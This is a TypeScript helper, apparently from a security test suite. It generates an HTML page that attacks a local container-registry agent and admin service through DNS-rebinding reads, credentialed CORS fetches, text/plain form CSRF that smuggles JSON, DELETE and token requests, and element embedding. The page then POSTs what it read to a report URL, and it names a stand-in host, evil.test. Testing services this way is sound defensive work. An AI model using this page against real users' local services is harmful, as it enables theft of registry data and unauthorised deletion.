/** What one attempt of the page came to. */
export interface Finding {
  readonly where: string;
  /** 0 when the browser did not tell. */
  readonly status: number;
  readonly text: string;
}

interface Target {
  readonly blob: string;
  /** Where the page reports to. */
  readonly report: string;
}

/** A page that tries everything a page can, and then tells what it could read. */
export function attackPage({ blob, report }: Target): string {
  const agents = ['http://127.0.0.1:5050', 'http://localhost:5050', 'http://[::1]:5050'];
  const admins = ['http://127.0.0.1:5051', 'http://localhost:5051', 'http://evil.test:5051'];
  const reads = [
    '/v2/',
    '/v2/library/app/manifests/1',
    `/v2/library/app/blobs/${blob}`,
    '/v2/library/app/tags/list',
    '/token',
  ];
  const told = ['/api/status', '/api/blobs', '/api/members', '/metrics', '/'];
  const changes = [
    ['POST', '/api/pulls', '{"reference":"busybox"}'],
    ['POST', '/api/verify', '{}'],
    ['DELETE', `/api/blobs/${blob}`, undefined],
    ['POST', '/token', 'grant_type=password&username=a&password=b&scope=repository:library/app:pull'],
    ['PUT', '/v2/library/app/manifests/2', '{}'],
    ['DELETE', '/v2/library/app/manifests/1', undefined],
  ];
  const facts = JSON.stringify({ agents, admins, reads, told, changes, report });
  return `<!doctype html><meta charset="utf-8"><title>attack</title><body><script>
const { agents, admins, reads, told, changes, report } = ${facts};
const findings = [];
async function attempt(where, address, init) {
  try {
    const answer = await fetch(address, { cache: 'no-store', signal: AbortSignal.timeout(5000), ...init });
    findings.push({ where, status: answer.status, text: await answer.text() });
  } catch (error) {
    findings.push({ where, status: 0, text: '' });
  }
}
function embed(kind, address) {
  return new Promise((resolve) => {
    const element = document.createElement(kind);
    const done = (text) => { findings.push({ where: kind + ' ' + address, status: 0, text }); resolve(); };
    element.onerror = () => done('');
    element.onload = () => {
      let text = '';
      try { text = element.contentDocument ? element.contentDocument.documentElement.textContent : ''; } catch {}
      done(text);
    };
    setTimeout(() => done(''), 3000);
    element.src = address;
    document.body.append(element);
  });
}
function submit(method, address) {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  const form = document.createElement('form');
  form.action = address; form.method = method; form.target = frame.name; form.enctype = 'text/plain';
  const field = document.createElement('input');
  field.name = '{"reference":"busybox","a":"'; field.value = '"}';
  form.append(field);
  document.body.append(frame, form);
  form.submit();
}
async function main() {
  for (const path of [...reads, ...told]) {
    // The name of this page leads to the agent by now: the same origin, as the browser sees it.
    for (let tries = 0; tries < 2; tries += 1) await attempt('same-origin ' + path, path);
  }
  for (const base of [...agents, ...admins, '']) {
    for (const path of base.endsWith('1') ? told : reads) {
      for (const mode of ['cors', 'no-cors']) {
        await attempt(mode + ' ' + base + path, base + path, { mode });
        await attempt(mode + ' with credentials ' + base + path, base + path, { mode, credentials: 'include' });
      }
    }
    for (const [method, path, body] of changes) {
      await attempt('cors ' + method + ' ' + base + path, base + path, { method, body, headers: { 'content-type': 'application/json' } });
      if (method === 'POST') await attempt('no-cors ' + method + ' ' + base + path, base + path, { method, body, mode: 'no-cors' });
      if (method === 'POST') submit('post', base + path);
    }
    await Promise.all(['img', 'script', 'iframe', 'video'].flatMap((kind) => reads.map((path) => embed(kind, base + path))));
  }
  await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(findings) });
}
main();
</script>`;
}
